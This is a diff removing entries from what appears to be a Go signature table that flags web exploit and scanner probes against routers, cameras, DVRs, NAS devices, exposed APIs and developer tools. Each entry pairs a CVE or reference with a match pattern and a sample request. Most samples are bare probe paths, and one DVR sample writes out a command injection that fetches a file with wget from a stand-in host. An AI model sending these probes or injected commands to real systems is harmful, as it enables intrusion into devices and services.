-	{"tplink-luci", Low, "TP-Link and OpenWrt routers", "CVE-2023-1389", "/cgi-bin/luci", "", "GET /cgi-bin/luci/;stok=/locale?form=country"},
-	{"asus-infosvr", Low, "ASUS routers", "CVE-2018-5999", "/appget.cgi", "", "POST /appGet.cgi"},
-	{"huawei-upnp", Medium, "Huawei routers", "CVE-2017-17215", "/ctrlt/deviceupgrade", "", "POST /ctrlt/DeviceUpgrade_1"},
-	{"realtek-upnp", Low, "Realtek SDK", "CVE-2014-8361", "/picsdesc.xml", "", "GET /picsdesc.xml"},
-	{"hikvision", Medium, "Hikvision", "CVE-2021-36260", "/sdk/weblanguage", "", "PUT /SDK/webLanguage"},
-	{"hikvision-auth", Medium, "Hikvision", "CVE-2017-7921", "auth=ywrtaw46", "", "GET /System/configurationFile?auth=YWRtaW46MTEK"},
-	{"hikvision-isapi", Low, "Hikvision", "CVE-2017-7921", "/isapi/", "", "GET /ISAPI/Security/userCheck"},
-	{"dahua-login", Low, "Dahua", "CVE-2021-33044", "/rpc2_login", "", "POST /RPC2_Login"},
-	{"dvr-shell", Medium, "DVRs (JAWS, MVPower)", "CVE-2016-20016", "/shell?", `^/shell\?.*(?:cd|wget|sh|id|\+|;| )`, "GET /shell?cd+/tmp;wget+http://h.example/a"},
-	{"dvr-language", Medium, "DVRs (TBK, XMEye)", "CVE-2024-3721", "device.rsp", "", "GET /device.rsp?opt=user&cmd=list"},
-	{"dvr-netgear-boardDataWW", Medium, "Netgear access points", "CVE-2016-1555", "boarddataww.php", "", "POST /boardDataWW.php"},
-	{"avtech", Medium, "AVTECH cameras", "CVE-2024-7029", "/cgi-bin/supervisor/", "", "GET /cgi-bin/supervisor/Factory.cgi"},
-	{"axis-cam", Low, "IP cameras", "CVE-2018-10660", "/axis-cgi/", "", "GET /axis-cgi/jpg/image.cgi"},
-	{"camera-onvif", Low, "IP cameras", "https://www.onvif.org/", "/onvif/", "", "POST /onvif/device_service"},
-	{"qnap-authlogin", Low, "QNAP", "CVE-2019-7192", "/cgi-bin/authlogin.cgi", "", "GET /cgi-bin/authLogin.cgi"},
-	{"synology-webman", Low, "Synology", "CVE-2021-31439", "/webman/", "", "GET /webman/index.cgi"},
-	{"cgi-shellshock", Low, "CGI scripts", "CVE-2014-6271", "/cgi-bin/", `/cgi-bin/(?:test(?:-cgi)?|printenv(?:\.pl)?|env(?:\.cgi)?|status|hello(?:\.cgi)?|bash|sh|php\d?|defaultwebpage\.cgi|user\.sh|user\.cgi|admin\.cgi|index\.cgi|count\.cgi|formmail\.(?:pl|cgi)|login\.cgi|main\.cgi|nph-\w+|php-cgi|perl|view-source|phf|w3mman2html\.cgi|supply\.cgi|slogin\.pl|stats|gh\.cgi|contact\.cgi|info\.sh|kerbynet|rtpd\.cgi|upload\.cgi|file_transfer\.cgi)(?:[/?.]|$)`, "GET /cgi-bin/test-cgi"},
-	{"nginx-alias", Medium, "nginx", "https://github.com/yandex/gixy/blob/master/docs/en/plugins/aliastraversal.md", "../", `^/(?:static|assets|media|images?|img|js|css|files|uploads|public|lib)\.\./`, "GET /static../app.py"},
-
-	// Services and tools that should not be reachable
-	{"docker-api", Low, "Docker API", "https://attack.mitre.org/techniques/T1610/", "/containers/json", "", "GET /v1.24/containers/json"},
-	{"kube-api", Low, "Kubernetes API", "https://attack.mitre.org/techniques/T1613/", "/api/v1/", `^/api/v1/(?:pods|namespaces|secrets|nodes)(?:[/?]|$)`, "GET /api/v1/namespaces"},
-	{"elasticsearch", Low, "Elasticsearch", "CVE-2015-1427", "/_search", `^/_(?:search|cat/|cluster/|nodes)`, "GET /_search?source=x"},
-	{"couchdb", Low, "CouchDB", "CVE-2017-12635", "/_users/org.couchdb", "", "PUT /_users/org.couchdb.user:x"},
-	{"couchdb-all", Low, "CouchDB", "CVE-2017-12636", "/_all_dbs", "", "GET /_all_dbs"},
-	{"etcd", Low, "etcd", "https://etcd.io/docs/", "/v2/keys", "", "GET /v2/keys/?recursive=true"},
-	{"consul", Low, "Consul", "https://www.exploit-db.com/exploits/46073", "/v1/agent/", "", "GET /v1/agent/self"},
-	{"hadoop-yarn", Medium, "Hadoop YARN", "https://www.exploit-db.com/exploits/45025", "/ws/v1/cluster/apps", "", "POST /ws/v1/cluster/apps/new-application"},
-	{"grafana-plugin", Medium, "Grafana", "CVE-2021-43798", "/public/plugins/", `/public/plugins/[^/?]+/.*\.\.`, "GET /public/plugins/text/../../../../x"},
-	{"grafana-login", Low, "Grafana", "https://grafana.com/docs/", "/api/dashboards/home", "", "GET /api/dashboards/home"},
-	{"prometheus", Low, "Prometheus", "https://prometheus.io/docs/operating/security/", "/metrics", `^/(?:prometheus/)?metrics(?:\?|$)`, "GET /metrics"},
-	{"gitlab-import", Low, "GitLab", "CVE-2021-22205", "/users/sign_in", "", "GET /users/sign_in"},
-	{"gitlab-uploads", Low, "GitLab", "CVE-2021-22205", "/api/v4/projects", "", "GET /api/v4/projects"},
-	{"rails-file", Medium, "Ruby on Rails", "CVE-2018-3760", "/assets/file:", "", "GET /assets/file:%252f%252f/srv/x"},
-	{"node-red", Low, "various", "https://nodered.org/docs/user-guide/runtime/securing-node-red", "/red/", `^/red/(?:flows|images)`, "GET /red/flows"},
-	{"aiohttp-static", Medium, "aiohttp", "CVE-2024-23334", "/static/../", "", "GET /static/../../srv/x"},
-	{"vite-fs", Medium, "Vite", "CVE-2025-30208", "?raw??", `\?(?:import&)?raw\?\?`, "GET /@fs/srv/x?raw??"},
-	{"nextjs-source", Low, "Next.js", "CVE-2025-29927", "x-middleware-subrequest", "", "GET /?x-middleware-subrequest=1"},
-	{"langflow", Medium, "Langflow", "CVE-2025-3248", "/api/v1/validate/code", "", "POST /api/v1/validate/code"},
-	{"webmin", Medium, "Webmin", "CVE-2019-15107", "/password_change.cgi", "", "POST /password_change.cgi"},
-	{"webmin-unauth", Medium, "Webmin", "CVE-2006-3392", "/unauthenticated/", `/unauthenticated/.*\.\.`, "GET /unauthenticated/..%01/..%01/x"},
-	{"horde", Low, "Horde", "CVE-2020-8518", "/horde/imp/test.php", "", "GET /horde/imp/test.php"},
-	{"nc-status", Low, "Nextcloud", "https://docs.nextcloud.com/", "/nextcloud/status.php", "", "GET /nextcloud/status.php"},
-	{"dfind", Medium, "DFind scanner", "https://isc.sans.edu/diary/900", "/w00tw00t", "", "GET /w00tw00t.at.ISC.SANS.DFind:)"},
-	{"muieblackcat", Medium, "Muieblackcat scanner", "https://www.juniper.net/us/en/threatlabs/ips-signatures/detail.HTTP:REQERR:MUIEBLACKCAT-SCANNER.html", "/muieblackcat", "", "GET /muieblackcat"},
-	{"zgrab-nice-ports", Medium, "Nmap service detection", "https://nmap.org/book/vscan.html", "/nice ports,", "", "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak"},
-	{"nmap-nse", Medium, "Nmap scripts", "https://nmap.org/nsedoc/", "nmaplowercheck", "", "GET /nmaplowercheck1700000000"},
-	{"nmap-sdk", Low, "Nmap scripts (VMware)", "https://nmap.org/nsedoc/scripts/vmware-version.html", "/sdk", `^/sdk/?$`, "POST /sdk"},
-	{"evox", Low, "Nmap scripts", "https://nmap.org/nsedoc/scripts/http-trane-info.html", "/evox/about", "", "GET /evox/about"},
-	{"nikto-file", Medium, "Nikto", "https://github.com/sullo/nikto", "/nikto-test-", "", "GET /nikto-test-x.html"},
-	{"acunetix-file", Medium, "Acunetix", "https://www.acunetix.com/", "acunetix", "", "GET /acunetix-wvs-test-for-some-inexistent-file"},
-	{"proxyjudge", Low, "open proxies", "https://www.rfc-editor.org/rfc/rfc9112#section-3.2.2", "/azenv", "", "GET http://h.example/azenv.php"},
 }
